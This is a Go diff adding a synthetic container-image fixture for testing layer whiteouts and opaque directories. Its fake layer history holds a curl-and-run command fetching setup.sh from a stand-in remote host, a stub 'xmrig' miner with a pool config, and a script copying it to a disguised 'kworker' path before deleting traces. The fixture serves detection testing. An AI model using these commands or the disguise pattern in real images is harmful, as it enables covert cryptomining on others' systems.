@@ -474,3 +474,36 @@ func demoEntrypointLayer() Layer {
 	t := buildStep(8)
 	return Layer{Files: []File{Reg("docker-entrypoint.sh", demoEntrypoint).WithMode(0o755).WithTime(demoSourceTime)}, Created: t}
 }
+
+// DemoHidden is a scenario for layer stacking: a file added by one layer and deleted by a
+// whiteout in the next (still present in the image's blobs, hidden in the final tree), and a
+// directory made opaque. Its history matches its layers.
+func DemoHidden() Image {
+	t1, t2 := buildStep(2), buildStep(3)
+	return Image{
+		Tags:    []string{"strata-demo/hidden:1"},
+		Created: t2,
+		Config:  Config{Env: []string{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"}, Cmd: []string{"bash"}},
+		Layers: []Layer{
+			demoBaseLayer(),
+			{Created: t1, Comment: buildkitComment,
+				CreatedBy: "RUN /bin/sh -c curl -fsSL -o /tmp/setup.sh http://" + DemoRemoteAddr + "/setup.sh && sh /tmp/setup.sh # buildkit",
+				Files: withTime(t1,
+					Dir("opt"), Dir("opt/tools"),
+					RegBytes("opt/tools/xmrig", elfStub("xmrig")).WithMode(0o755),
+					Reg("opt/tools/config.json", `{"pools":[{"url":"pool.example.invalid:3333","user":"wallet"}]}`+"\n"),
+					Dir("tmp").WithMode(0o1777),
+					Reg("tmp/setup.sh", "#!/bin/sh\ncp /opt/tools/xmrig /usr/local/bin/kworker\n").WithMode(0o755),
+					Dir("var"), Dir("var/cache"), Dir("var/cache/apt"),
+					RegBytes("var/cache/apt/archives.bin", []byte("cache")),
+				)},
+			{Created: t2, Comment: buildkitComment,
+				CreatedBy: "RUN /bin/sh -c rm -rf /tmp/setup.sh /opt/tools/xmrig && rm -rf /var/cache/apt && mkdir /var/cache/apt # buildkit",
+				Files: withTime(t2,
+					Dir("opt"), Dir("opt/tools"), Whiteout("opt/tools/xmrig"),
+					Dir("tmp").WithMode(0o1777), Whiteout("tmp/setup.sh"),
+					Dir("var"), Dir("var/cache"), Dir("var/cache/apt"), Opaque("var/cache/apt"),
+				)},
+		},
+	}
+}
